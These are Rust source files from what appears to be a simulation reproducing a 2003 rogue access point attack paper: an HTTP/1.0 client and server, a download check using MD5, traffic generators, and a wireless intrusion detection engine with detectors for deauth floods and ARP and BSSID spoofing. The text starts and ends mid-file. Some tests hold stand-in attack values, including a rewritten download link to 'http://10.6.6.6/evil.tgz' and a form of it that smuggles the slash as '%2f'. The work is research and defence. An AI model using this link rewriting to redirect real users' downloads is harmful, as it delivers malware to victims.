    use super::*;
    use crate::site::{download_portal, make_binary};
    use rogue_dot11::MacAddr;
    use rogue_sim::{Seed, SimRng};

    const SERVER_IP: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);
    const CLIENT_IP: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);

    /// Two hosts on a perfect wire, with one app on each.
    fn run_pair(
        client_app: &mut dyn App,
        server_app: &mut dyn App,
        until: SimTime,
    ) -> Vec<AppEvent> {
        let mut client = Host::new("client", SimRng::new(Seed(1)));
        let mut server = Host::new("server", SimRng::new(Seed(2)));
        client.add_iface(MacAddr::local(1), CLIENT_IP, 24);
        server.add_iface(MacAddr::local(2), SERVER_IP, 24);
        let mut events = Vec::new();
        let mut now = SimTime::ZERO;
        while now < until {
            now += SimDuration::from_millis(1);
            client.poll(now);
            server.poll(now);
            client_app.poll(now, &mut client, &mut events);
            server_app.poll(now, &mut server, &mut events);
            let cf = client.take_frames();
            let sf = server.take_frames();
            for (_, f) in cf {
                server.on_link_rx(now, 0, &f);
            }
            for (_, f) in sf {
                client.on_link_rx(now, 0, &f);
            }
        }
        events
    }

    #[test]
    fn download_workflow_verifies_genuine_file() {
        let mut rng = SimRng::new(Seed(3));
        let portal = download_portal(make_binary(&mut rng, 20_000));
        let mut server = HttpServerApp::new(80, portal.site.clone());
        let mut client = DownloadClient::new(
            SERVER_IP,
            "/download.html",
            SimTime::from_millis(5),
            SimDuration::from_secs(30),
        );
        run_pair(&mut client, &mut server, SimTime::from_secs(5));
        let o = client.outcome.as_ref().expect("finished");
        assert!(o.error.is_none(), "error: {:?}", o.error);
        assert!(o.page_fetched);
        assert_eq!(o.link.as_deref(), Some("file.tgz"));
        assert!(o.verified, "genuine download must verify");
        assert_eq!(o.file_len, 20_000);
        assert_eq!(o.file_bytes.as_ref().unwrap(), &portal.file);
        assert_eq!(o.file_server, Some(SERVER_IP));
        assert_eq!(server.requests_served, 2);
    }

    #[test]
    fn download_times_out_without_server() {
        struct Nop;
        impl App for Nop {
            fn poll(&mut self, _: SimTime, _: &mut Host, _: &mut Vec<AppEvent>) {}

            fn as_any(&self) -> &dyn std::any::Any {
                self
            }
            fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
                self
            }
        }
        let mut client = DownloadClient::new(
            Ipv4Addr::new(10, 0, 0, 99), // nobody home
            "/download.html",
            SimTime::from_millis(5),
            SimDuration::from_secs(2),
        );
        let mut nop = Nop;
        run_pair(&mut client, &mut nop, SimTime::from_secs(5));
        let o = client.outcome.as_ref().expect("finished");
        assert_eq!(o.error.as_deref(), Some("timeout"));
        assert!(!o.verified);
    }

    #[test]
    fn server_404s_unknown_paths() {
        let mut rng = SimRng::new(Seed(3));
        let portal = download_portal(make_binary(&mut rng, 100));
        let mut server = HttpServerApp::new(80, portal.site.clone());
        let mut client = DownloadClient::new(
            SERVER_IP,
            "/nonexistent.html",
            SimTime::from_millis(5),
            SimDuration::from_secs(10),
        );
        run_pair(&mut client, &mut server, SimTime::from_secs(5));
        let o = client.outcome.as_ref().expect("finished");
        assert_eq!(o.error.as_deref(), Some("page status 404"));
    }

    #[test]
    fn browser_detects_tampering_against_expected_body() {
        // Server serves a *different* body than the browser expects —
        // standing in for an in-path rewrite.
        let mut site = SiteContent::new();
        site.add("/index.html", "text/html", Bytes::from_static(b"EVIL"));
        let mut server = HttpServerApp::new(80, site);
        let mut browser = BrowserApp::new(
            SERVER_IP,
            "/index.html",
            Bytes::from_static(b"GENUINE"),
            SimTime::from_millis(5),
            SimDuration::from_millis(500),
        );
        let events = run_pair(&mut browser, &mut server, SimTime::from_secs(3));
        assert!(
            browser.pages_tampered >= 2,
            "tampered: {}",
            browser.pages_tampered
        );
        assert_eq!(browser.pages_ok, 0);
        assert!(events
            .iter()
            .any(|e| matches!(e, AppEvent::PageFetched { tampered: true, .. })));
    }

    #[test]
    fn browser_accepts_genuine_pages() {
        let body = Bytes::from_static(b"<html>news</html>");
        let mut site = SiteContent::new();
        site.add("/index.html", "text/html", body.clone());
        let mut server = HttpServerApp::new(80, site);
        let mut browser = BrowserApp::new(
            SERVER_IP,
            "/index.html",
            body,
            SimTime::from_millis(5),
            SimDuration::from_millis(500),
        );
        run_pair(&mut browser, &mut server, SimTime::from_secs(3));
        assert!(browser.pages_ok >= 2);
        assert_eq!(browser.pages_tampered, 0);
    }
}
