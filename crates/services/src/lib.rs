//! # rogue-services — the application layer of the reproduction
//!
//! Everything Section 4.1 of the paper runs on top of the gateway:
//!
//! * [`http`] — a minimal HTTP/1.0 server and client (close-delimited
//!   bodies, exactly the semantics that let netsed change a page's length
//!   without anyone noticing),
//! * [`site`] — the "sample target download web page … a downloadable
//!   binary, a link to that binary and an MD5SUM of that binary",
//! * [`apps`] — the poll-driven application trait and scripted clients:
//!   the victim's download workflow (fetch page → follow link → verify
//!   MD5) and a repeated page-fetch browser for the §5.1 "CNN" scenario,
//! * [`netsed`] — the stream editor: a TCP proxy applying
//!   search/replace rules **per chunk**, reproducing both the attack and
//!   its admitted limitation ("netsed will not match strings that cross
//!   packet boundaries"),
//! * [`parprouted`] — the proxy-ARP bridge daemon that makes the two-NIC
//!   gateway transparent (Appendix A),
//! * [`traffic`] — ping and UDP constant-bit-rate generators/sinks used
//!   by the connectivity and VPN-overhead experiments.

pub mod apps;
pub mod http;
pub mod netsed;
pub mod parprouted;
pub mod site;
pub mod traffic;

pub use apps::{App, AppEvent, DownloadClient, DownloadOutcome, HttpServerApp};
pub use netsed::{Netsed, NetsedRule};
pub use parprouted::Parprouted;
