//! Minimal HTTP/1.0: request/response codecs and page scraping helpers.
//!
//! Deliberately HTTP/1.0 with close-delimited bodies: the 2003 attack
//! relies on the response body simply ending when the connection closes,
//! so netsed can grow or shrink content without fixing `Content-Length`.

use bytes::Bytes;

/// A parsed HTTP request head.
#[derive(Clone, Debug, PartialEq)]
pub struct Request {
    /// Method (GET, POST, …).
    pub method: String,
    /// Request path.
    pub path: String,
}

/// Parse a request once the head (`\r\n\r\n`) is complete. Returns `None`
/// until then or on malformed input.
pub fn parse_request(buf: &[u8]) -> Option<Request> {
    let head_end = find_subslice(buf, b"\r\n\r\n")?;
    let head = std::str::from_utf8(&buf[..head_end]).ok()?;
    let mut lines = head.split("\r\n");
    let request_line = lines.next()?;
    let mut parts = request_line.split(' ');
    let method = parts.next()?.to_string();
    let path = parts.next()?.to_string();
    Some(Request { method, path })
}

/// Serialize a GET request.
pub fn get_request(path: &str, host: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.0\r\nHost: {host}\r\nUser-Agent: rogue-client/0.1\r\n\r\n")
        .into_bytes()
}

/// Build a response with a close-delimited body.
pub fn response(status: u16, reason: &str, content_type: &str, body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "HTTP/1.0 {status} {reason}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    out.extend_from_slice(body);
    out
}

/// Shorthand for 404.
pub fn not_found() -> Vec<u8> {
    response(404, "Not Found", "text/plain", b"not found")
}

/// Split a complete close-delimited response into (status, body).
pub fn parse_response(buf: &[u8]) -> Option<(u16, Bytes)> {
    let head_end = find_subslice(buf, b"\r\n\r\n")?;
    let head = std::str::from_utf8(&buf[..head_end]).ok()?;
    let status_line = head.split("\r\n").next()?;
    let status: u16 = status_line.split(' ').nth(1)?.parse().ok()?;
    Some((status, Bytes::copy_from_slice(&buf[head_end + 4..])))
}

/// First `href=` target on a page (the victim's "click the download
/// link"). Handles bare (`href=file.tgz`) and quoted forms.
pub fn find_href(body: &[u8]) -> Option<String> {
    let idx = find_subslice(body, b"href=")?;
    let rest = &body[idx + 5..];
    let (rest, terminators): (&[u8], &[u8]) = match rest.first() {
        Some(b'"') => (&rest[1..], b"\""),
        Some(b'\'') => (&rest[1..], b"'"),
        _ => (rest, b" >\r\n\t"),
    };
    let end = rest
        .iter()
        .position(|b| terminators.contains(b))
        .unwrap_or(rest.len());
    Some(String::from_utf8_lossy(&rest[..end]).into_owned())
}

/// The advertised `MD5SUM: <hex>` on a download page.
pub fn find_md5sum(body: &[u8]) -> Option<String> {
    let idx = find_subslice(body, b"MD5SUM: ")?;
    let rest = &body[idx + 8..];
    let hex: Vec<u8> = rest
        .iter()
        .copied()
        .take_while(|b| b.is_ascii_hexdigit())
        .collect();
    if hex.len() == 32 {
        Some(String::from_utf8(hex).expect("hexdigits"))
    } else {
        None
    }
}

/// A link target: either a path on the same server, or an absolute
/// `http://a.b.c.d/path` URL (the attacker's rewritten link points at a
/// different host — "it reveals the real download IP to the client").
#[derive(Clone, Debug, PartialEq)]
pub enum LinkTarget {
    /// Path on the origin server.
    Relative(String),
    /// (server IP, path) parsed from an absolute URL.
    Absolute(std::net::Ipv4Addr, String),
}

/// Classify an href value. Percent-encoded `%2f` is decoded first — the
/// paper's netsed rule smuggles `/` through as `%2f` so the literal rule
/// string stays unambiguous.
pub fn parse_link(href: &str) -> Option<LinkTarget> {
    let href = href.replace("%2f", "/").replace("%2F", "/");
    if let Some(rest) = href.strip_prefix("http://") {
        let (host, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        let ip: std::net::Ipv4Addr = host.parse().ok()?;
        Some(LinkTarget::Absolute(ip, path.to_string()))
    } else if href.starts_with('/') {
        Some(LinkTarget::Relative(href))
    } else {
        Some(LinkTarget::Relative(format!("/{href}")))
    }
}

/// Find the first occurrence of `needle` in `haystack`.
pub fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || haystack.len() < needle.len() {
        return None;
    }
    haystack.windows(needle.len()).position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_roundtrip() {
        let raw = get_request("/download.html", "10.9.9.9");
        let req = parse_request(&raw).unwrap();
        assert_eq!(req.method, "GET");
        assert_eq!(req.path, "/download.html");
    }

    #[test]
    fn request_incomplete_returns_none() {
        assert!(parse_request(b"GET / HTTP/1.0\r\nHost: x\r\n").is_none());
    }

    #[test]
    fn response_roundtrip() {
        let raw = response(200, "OK", "text/html", b"<html>hi</html>");
        let (status, body) = parse_response(&raw).unwrap();
        assert_eq!(status, 200);
        assert_eq!(&body[..], b"<html>hi</html>");
    }

    #[test]
    fn href_extraction_variants() {
        assert_eq!(
            find_href(b"<a href=file.tgz>download</a>").as_deref(),
            Some("file.tgz")
        );
        assert_eq!(
            find_href(b"<a href=\"/pub/file.tgz\">x</a>").as_deref(),
            Some("/pub/file.tgz")
        );
        assert!(find_href(b"no links here").is_none());
    }

    #[test]
    fn md5sum_extraction() {
        let page = b"<p>MD5SUM: 0123456789abcdef0123456789abcdef</p>";
        assert_eq!(
            find_md5sum(page).as_deref(),
            Some("0123456789abcdef0123456789abcdef")
        );
        assert!(find_md5sum(b"MD5SUM: tooshort").is_none());
    }

    #[test]
    fn link_classification() {
        assert_eq!(
            parse_link("file.tgz"),
            Some(LinkTarget::Relative("/file.tgz".into()))
        );
        assert_eq!(
            parse_link("/a/b.tgz"),
            Some(LinkTarget::Relative("/a/b.tgz".into()))
        );
        assert_eq!(
            parse_link("http://10.6.6.6/evil.tgz"),
            Some(LinkTarget::Absolute(
                std::net::Ipv4Addr::new(10, 6, 6, 6),
                "/evil.tgz".into()
            ))
        );
        // The paper's %2f-encoded form.
        assert_eq!(
            parse_link("http://10.6.6.6%2fevil.tgz"),
            Some(LinkTarget::Absolute(
                std::net::Ipv4Addr::new(10, 6, 6, 6),
                "/evil.tgz".into()
            ))
        );
    }

    #[test]
    fn subslice_search() {
        assert_eq!(find_subslice(b"hello world", b"world"), Some(6));
        assert_eq!(find_subslice(b"hello", b"x"), None);
        assert_eq!(find_subslice(b"", b"x"), None);
        assert_eq!(find_subslice(b"abc", b""), None);
    }
}
