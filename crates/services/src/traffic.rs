//! Traffic generators and sinks: periodic ping, UDP constant-bit-rate
//! streams. Used for connectivity probes (E1), WEP sample generation
//! (E4, via ordinary data traffic) and the VPN transport comparison (E5).

use rogue_netstack::{Host, HostEvent, Ipv4Addr, SocketHandle};
use rogue_sim::{SimDuration, SimTime};

use crate::apps::{App, AppEvent};

/// Periodic ICMP echo with reply accounting.
///
/// Note: consumes the host's event queue, so run at most one `PingApp`
/// per host (the reproduction's hosts never need more).
pub struct PingApp {
    dst: Ipv4Addr,
    period: SimDuration,
    next_send: SimTime,
    seq: u16,
    /// Echo requests sent.
    pub sent: u64,
    /// Echo replies received.
    pub received: u64,
}

impl PingApp {
    /// Ping `dst` every `period` starting at `first_at`.
    pub fn new(dst: Ipv4Addr, first_at: SimTime, period: SimDuration) -> PingApp {
        PingApp {
            dst,
            period,
            next_send: first_at,
            seq: 0,
            sent: 0,
            received: 0,
        }
    }

    /// Fraction of pings answered.
    pub fn success_rate(&self) -> f64 {
        if self.sent == 0 {
            return 0.0;
        }
        self.received as f64 / self.sent as f64
    }
}

impl App for PingApp {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        for ev in host.take_events() {
            if let HostEvent::PingReply { from, .. } = ev {
                if from == self.dst {
                    self.received += 1;
                }
            }
        }
        while now >= self.next_send {
            self.seq = self.seq.wrapping_add(1);
            host.ping(now, self.dst, self.seq);
            self.sent += 1;
            self.next_send += self.period;
        }
    }

    fn next_wake(&self) -> SimTime {
        self.next_send
    }
}

/// Constant-bit-rate UDP source. Each datagram carries a sequence number
/// and the send timestamp so the sink can measure loss and latency.
pub struct UdpCbrSource {
    dst: (Ipv4Addr, u16),
    payload_len: usize,
    interval: SimDuration,
    next_send: SimTime,
    stop_at: SimTime,
    sock: Option<SocketHandle>,
    seq: u64,
    /// Datagrams sent.
    pub sent: u64,
}

impl UdpCbrSource {
    /// Stream to `dst`, one datagram every `interval`, until `stop_at`.
    pub fn new(
        dst: (Ipv4Addr, u16),
        payload_len: usize,
        interval: SimDuration,
        start_at: SimTime,
        stop_at: SimTime,
    ) -> UdpCbrSource {
        assert!(payload_len >= 16, "need room for seq + timestamp");
        UdpCbrSource {
            dst,
            payload_len,
            interval,
            next_send: start_at,
            stop_at,
            sock: None,
            seq: 0,
            sent: 0,
        }
    }
}

impl App for UdpCbrSource {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        if now >= self.stop_at {
            return;
        }
        let sock = *self.sock.get_or_insert_with(|| host.udp_bind(40_000));
        while now >= self.next_send && self.next_send < self.stop_at {
            let mut payload = vec![0u8; self.payload_len];
            payload[..8].copy_from_slice(&self.seq.to_be_bytes());
            payload[8..16].copy_from_slice(&self.next_send.as_nanos().to_be_bytes());
            host.udp_send(now, sock, self.dst.0, self.dst.1, &payload);
            self.seq += 1;
            self.sent += 1;
            self.next_send += self.interval;
        }
    }

    fn next_wake(&self) -> SimTime {
        if self.next_send < self.stop_at {
            self.next_send
        } else {
            SimTime::FOREVER
        }
    }
}

/// Receiving end of a [`UdpCbrSource`] stream.
pub struct UdpSink {
    port: u16,
    sock: Option<SocketHandle>,
    /// Datagrams received.
    pub received: u64,
    /// Highest sequence number seen + 1 (0 if none).
    pub max_seq_plus_one: u64,
    /// Duplicate datagrams (same or lower seq than already seen max,
    /// counted approximately).
    pub late_or_dup: u64,
    /// Sum of one-way latencies (ns) for mean computation.
    pub latency_sum_ns: u128,
    /// Worst observed latency (ns).
    pub latency_max_ns: u64,
}

impl UdpSink {
    /// Listen on `port`.
    pub fn new(port: u16) -> UdpSink {
        UdpSink {
            port,
            sock: None,
            received: 0,
            max_seq_plus_one: 0,
            late_or_dup: 0,
            latency_sum_ns: 0,
            latency_max_ns: 0,
        }
    }

    /// Mean one-way latency in milliseconds.
    pub fn mean_latency_ms(&self) -> f64 {
        if self.received == 0 {
            return 0.0;
        }
        self.latency_sum_ns as f64 / self.received as f64 / 1e6
    }

    /// Loss fraction given the number sent.
    pub fn loss_rate(&self, sent: u64) -> f64 {
        if sent == 0 {
            return 0.0;
        }
        1.0 - (self.received.min(sent) as f64 / sent as f64)
    }
}

impl App for UdpSink {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        let sock = *self.sock.get_or_insert_with(|| host.udp_bind(self.port));
        while let Some((_, _, payload)) = host.udp_recv(sock) {
            if payload.len() < 16 {
                continue;
            }
            let seq = u64::from_be_bytes(payload[..8].try_into().expect("8 bytes"));
            let sent_ns = u64::from_be_bytes(payload[8..16].try_into().expect("8 bytes"));
            self.received += 1;
            if seq + 1 > self.max_seq_plus_one {
                self.max_seq_plus_one = seq + 1;
            } else {
                self.late_or_dup += 1;
            }
            let lat = now.as_nanos().saturating_sub(sent_ns);
            self.latency_sum_ns += lat as u128;
            self.latency_max_ns = self.latency_max_ns.max(lat);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_dot11::MacAddr;
    use rogue_sim::{Seed, SimRng};

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

    fn wire_run(app_a: &mut dyn App, app_b: &mut dyn App, until: SimTime) -> (Host, Host) {
        let mut a = Host::new("a", SimRng::new(Seed(1)));
        let mut b = Host::new("b", SimRng::new(Seed(2)));
        a.add_iface(MacAddr::local(1), A, 24);
        b.add_iface(MacAddr::local(2), B, 24);
        let mut now = SimTime::ZERO;
        let mut out = Vec::new();
        while now < until {
            now += SimDuration::from_millis(1);
            a.poll(now);
            b.poll(now);
            app_a.poll(now, &mut a, &mut out);
            app_b.poll(now, &mut b, &mut out);
            for (_, f) in a.take_frames() {
                b.on_link_rx(now, 0, &f);
            }
            for (_, f) in b.take_frames() {
                a.on_link_rx(now, 0, &f);
            }
        }
        (a, b)
    }

    struct Nop;
    impl App for Nop {
        fn poll(&mut self, _: SimTime, _: &mut Host, _: &mut Vec<AppEvent>) {}

        fn as_any(&self) -> &dyn std::any::Any {
            self
        }
        fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
            self
        }
    }

    #[test]
    fn ping_app_counts_replies() {
        let mut ping = PingApp::new(B, SimTime::from_millis(1), SimDuration::from_millis(100));
        let mut nop = Nop;
        wire_run(&mut ping, &mut nop, SimTime::from_secs(1));
        assert!(ping.sent >= 9, "sent {}", ping.sent);
        assert!(
            ping.received >= ping.sent - 1,
            "received {} of {}",
            ping.received,
            ping.sent
        );
        assert!(ping.success_rate() > 0.85);
    }

    #[test]
    fn cbr_stream_measures_latency_and_loss() {
        let mut src = UdpCbrSource::new(
            (B, 5000),
            64,
            SimDuration::from_millis(10),
            SimTime::from_millis(1),
            SimTime::from_millis(500),
        );
        let mut sink = UdpSink::new(5000);
        wire_run(&mut src, &mut sink, SimTime::from_secs(1));
        assert!(src.sent >= 45, "sent {}", src.sent);
        assert_eq!(sink.received, src.sent, "perfect wire loses nothing");
        assert_eq!(sink.loss_rate(src.sent), 0.0);
        assert!(sink.mean_latency_ms() < 10.0);
    }

    #[test]
    fn sink_ignores_short_datagrams() {
        let mut sink = UdpSink::new(7);
        let mut host = Host::new("h", SimRng::new(Seed(3)));
        host.add_iface(MacAddr::local(1), A, 24);
        let mut out = Vec::new();
        sink.poll(SimTime::ZERO, &mut host, &mut out);
        assert_eq!(sink.received, 0);
    }
}
