//! E1 bench — Figure 1: times one association-capture replication and
//! prints the capture tables once.

use criterion::{criterion_group, criterion_main, Criterion};
use rogue_core::experiments::e1_association::run_capture_once;
use rogue_core::scenario::CorpScenarioCfg;
use rogue_sim::{Seed, SimTime};

fn bench(c: &mut Criterion) {
    println!(
        "\nE1: Figure 1 — rogue-AP association capture\n{}\n",
        rogue_bench::report_e1(4).body
    );
    let cfg = CorpScenarioCfg::paper_attack();
    let mut g = c.benchmark_group("e1_association");
    g.sample_size(10);
    let mut seed = 0u64;
    g.bench_function("fig1_association_capture_replication", |b| {
        b.iter(|| {
            seed += 1;
            run_capture_once(&cfg, SimTime::from_secs(5), Seed(seed))
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
