//! WIDS engine throughput: events/s and incidents/s at N monitor
//! sensors, the sharded batched engine against the per-frame baseline.
//!
//! The baseline is the engine this repository shipped before the
//! sharded rewrite: five detectors behind `Box<dyn Detector>`, one
//! virtual call per detector per frame, per-source state in
//! `std::collections` maps (SipHash on every lookup), and a
//! scratch-to-correlator drain after every event. The [`seed`] module
//! reconstructs it verbatim from the pre-rewrite sources so the
//! comparison measures engine architecture, not detector tuning — both
//! engines run the same thresholds over the same pre-staged event
//! batches, and the bench asserts their incident lists are
//! bit-identical before it reports a single number.
//!
//! The workload is a deterministic multi-sensor campus under attack:
//! per sensor, a pool of well-behaved clients plus an interleaved MAC
//! spoof, a deauth burst, a wrong-channel BSSID clone, an evil twin, a
//! wired ARP poisoner — and a MAC-randomizing rogue spraying frames
//! from a never-repeating source address (the evasion suite's flagship
//! attacker). The randomizer is where the architectures diverge: the
//! seed engine grows a fresh hash-map entry per forged address and
//! slides into cache-miss territory, while the bounded tables recycle
//! slots at fixed cost. Incidents still have to match bit for bit —
//! the persistent attackers' slots survive the churn by LRU.
//!
//! Run modes:
//!   cargo bench -p rogue-bench --bench wids_throughput            # full
//!   cargo bench -p rogue-bench --bench wids_throughput -- --test  # smoke
//!
//! Writes `BENCH_wids_throughput.json` at the workspace root.

use std::collections::HashMap;
use std::io::Write as _;
use std::path::Path;
use std::time::Instant;

use rogue_dot11::MacAddr;
use rogue_netstack::Ipv4Addr;
use rogue_sim::rng::{Seed, SplitMix64};
use rogue_sim::SimTime;
use rogue_wids::event::ArpEvent;
use rogue_wids::{
    Dot11Event, Dot11Kind, EngineMode, IncidentCategory, SensorEvent, SensorId, WidsConfig,
    WidsPipeline,
};

/// The pre-rewrite per-frame engine, reconstructed from the sources at
/// the revision before the sharded engine landed. Detector logic is
/// copied unchanged (same thresholds, same latches, same alert weights);
/// only `detail` strings are trimmed — the equivalence check compares
/// incident fields, which never include them.
mod seed {
    use std::collections::{HashMap, HashSet};

    use rogue_detect::seqmon::{SeqMonConfig, SeqMonitor};
    use rogue_detect::AlarmKind as SeqAlarmKind;
    use rogue_dot11::MacAddr;
    use rogue_netstack::Ipv4Addr;
    use rogue_sim::trace::Metrics;
    use rogue_sim::{SimDuration, SimTime};
    use rogue_wids::correlate::CorrelatorConfig;
    use rogue_wids::event::SensorRing;
    use rogue_wids::{AlertKind, Correlator, Detector, Dot11Kind, Incident, RawAlert, SensorEvent};

    /// Seed seq-control adapter: unbounded `SeqMonitor` plus the AP-only
    /// channel-divergence gate over a `HashSet`.
    struct SeqControl {
        monitor: SeqMonitor,
        emitted: usize,
        ap_tas: HashSet<MacAddr>,
    }

    impl Detector for SeqControl {
        fn name(&self) -> &'static str {
            "seq-control"
        }

        fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
            let SensorEvent::Dot11(e) = ev else { return };
            if e.kind == Dot11Kind::Ack {
                return;
            }
            if e.ta == e.bssid {
                self.ap_tas.insert(e.ta);
            }
            self.monitor
                .observe_frame(e.at, e.ta, e.seq, e.channel, e.retry);
            for alarm in &self.monitor.alarms[self.emitted..] {
                let (kind, weight) = match alarm.kind {
                    SeqAlarmKind::SequenceAnomaly => (AlertKind::SequenceAnomaly, 0.7),
                    SeqAlarmKind::ChannelDivergence if self.ap_tas.contains(&alarm.subject) => {
                        (AlertKind::ChannelDivergence, 0.9)
                    }
                    _ => continue,
                };
                out.push(RawAlert {
                    at: alarm.at,
                    detector: "seq-control",
                    subject: alarm.subject,
                    kind,
                    weight,
                    detail: alarm.detail.clone(),
                });
            }
            self.emitted = self.monitor.alarms.len();
        }
    }

    /// Seed beacon auditor: registry checks over `HashSet` latches.
    struct BeaconAudit {
        authorized: Vec<(MacAddr, u8)>,
        owned_ssids: HashSet<String>,
        alerted_spoof: HashSet<(MacAddr, u8)>,
        alerted_clone: HashSet<(String, MacAddr)>,
    }

    impl Detector for BeaconAudit {
        fn name(&self) -> &'static str {
            "beacon-audit"
        }

        fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
            let SensorEvent::Dot11(e) = ev else { return };
            let Dot11Kind::Beacon { ssid, .. } = &e.kind else {
                return;
            };
            let bssid_known = self.authorized.iter().any(|(b, _)| *b == e.bssid);
            let pair_known = self
                .authorized
                .iter()
                .any(|(b, ch)| *b == e.bssid && *ch == e.channel);
            if pair_known {
                self.owned_ssids.insert(ssid.clone());
                return;
            }
            if bssid_known {
                if self.alerted_spoof.insert((e.bssid, e.channel)) {
                    out.push(RawAlert {
                        at: e.at,
                        detector: "beacon-audit",
                        subject: e.bssid,
                        kind: AlertKind::BssidSpoof,
                        weight: 0.9,
                        detail: format!("authorized BSSID on unregistered channel {}", e.channel),
                    });
                }
                return;
            }
            if self.owned_ssids.contains(ssid) && self.alerted_clone.insert((ssid.clone(), e.bssid))
            {
                out.push(RawAlert {
                    at: e.at,
                    detector: "beacon-audit",
                    subject: e.bssid,
                    kind: AlertKind::SsidClone,
                    weight: 0.6,
                    detail: format!("unregistered BSSID advertising owned SSID {ssid:?}"),
                });
            }
        }
    }

    /// Seed deauth-flood detector: exact per-transmitter sliding windows
    /// in a `HashMap` of timestamp vectors.
    struct DeauthFlood {
        threshold: u32,
        window: SimDuration,
        per_ta: HashMap<MacAddr, (Vec<SimTime>, bool)>,
    }

    impl Detector for DeauthFlood {
        fn name(&self) -> &'static str {
            "deauth-flood"
        }

        fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
            let SensorEvent::Dot11(e) = ev else { return };
            let Dot11Kind::Deauth { .. } = e.kind else {
                return;
            };
            let (times, alerted) = self.per_ta.entry(e.ta).or_default();
            times.push(e.at);
            let window_start = SimTime(e.at.as_nanos().saturating_sub(self.window.as_nanos()));
            times.retain(|&t| t >= window_start);
            if times.len() as u32 >= self.threshold && !*alerted {
                *alerted = true;
                out.push(RawAlert {
                    at: e.at,
                    detector: "deauth-flood",
                    subject: e.ta,
                    kind: AlertKind::DeauthFlood,
                    weight: 0.85,
                    detail: format!("{} deauths within {}", times.len(), self.window),
                });
            }
        }
    }

    struct RssiState {
        last_rssi: f64,
        swings: Vec<SimTime>,
        alerted: bool,
    }

    /// Seed RSSI-consistency detector: per-(ta, sensor, channel) state
    /// in a tuple-keyed `HashMap`.
    struct RssiSplit {
        swing_db: f64,
        threshold: u32,
        window: SimDuration,
        per_ta: HashMap<(MacAddr, u16, u8), RssiState>,
    }

    impl Detector for RssiSplit {
        fn name(&self) -> &'static str {
            "rssi-split"
        }

        fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
            let SensorEvent::Dot11(e) = ev else { return };
            if e.kind == Dot11Kind::Ack {
                return;
            }
            let key = (e.ta, e.sensor.0, e.channel);
            let st = match self.per_ta.get_mut(&key) {
                Some(st) => st,
                None => {
                    self.per_ta.insert(
                        key,
                        RssiState {
                            last_rssi: e.rssi_dbm,
                            swings: Vec::new(),
                            alerted: false,
                        },
                    );
                    return;
                }
            };
            let swing = (e.rssi_dbm - st.last_rssi).abs();
            st.last_rssi = e.rssi_dbm;
            if swing < self.swing_db {
                return;
            }
            st.swings.push(e.at);
            let window_start = SimTime(e.at.as_nanos().saturating_sub(self.window.as_nanos()));
            st.swings.retain(|&t| t >= window_start);
            if st.swings.len() as u32 >= self.threshold && !st.alerted {
                st.alerted = true;
                out.push(RawAlert {
                    at: e.at,
                    detector: "rssi-split",
                    subject: e.ta,
                    kind: AlertKind::RssiInconsistent,
                    weight: 0.5,
                    detail: format!("{} swings on channel {}", st.swings.len(), e.channel),
                });
            }
        }
    }

    /// Seed ARP-spoof detector: learned bindings and gratuitous-burst
    /// windows in `HashMap`s.
    struct ArpSpoof {
        gratuitous_threshold: u32,
        window: SimDuration,
        bindings: HashMap<Ipv4Addr, MacAddr>,
        alerted_conflicts: HashSet<(Ipv4Addr, MacAddr)>,
        gratuitous: HashMap<MacAddr, Vec<SimTime>>,
        alerted_bursts: HashSet<MacAddr>,
    }

    impl Detector for ArpSpoof {
        fn name(&self) -> &'static str {
            "arp-spoof"
        }

        fn on_event(&mut self, ev: &SensorEvent, out: &mut Vec<RawAlert>) {
            let SensorEvent::Arp(e) = ev else { return };
            match self.bindings.get(&e.sender_ip) {
                None => {
                    self.bindings.insert(e.sender_ip, e.sender_mac);
                }
                Some(&bound) if bound != e.sender_mac => {
                    if self.alerted_conflicts.insert((e.sender_ip, e.sender_mac)) {
                        out.push(RawAlert {
                            at: e.at,
                            detector: "arp-spoof",
                            subject: e.sender_mac,
                            kind: AlertKind::ArpSpoof,
                            weight: 0.9,
                            detail: format!("{} rebound from {bound}", e.sender_ip),
                        });
                    }
                }
                Some(_) => {}
            }
            if !e.gratuitous {
                return;
            }
            let times = self.gratuitous.entry(e.src_mac).or_default();
            times.push(e.at);
            let window_start = SimTime(e.at.as_nanos().saturating_sub(self.window.as_nanos()));
            times.retain(|&t| t >= window_start);
            if times.len() as u32 >= self.gratuitous_threshold
                && self.alerted_bursts.insert(e.src_mac)
            {
                out.push(RawAlert {
                    at: e.at,
                    detector: "arp-spoof",
                    subject: e.src_mac,
                    kind: AlertKind::ArpSpoof,
                    weight: 0.6,
                    detail: format!("{} gratuitous replies within {}", times.len(), self.window),
                });
            }
        }
    }

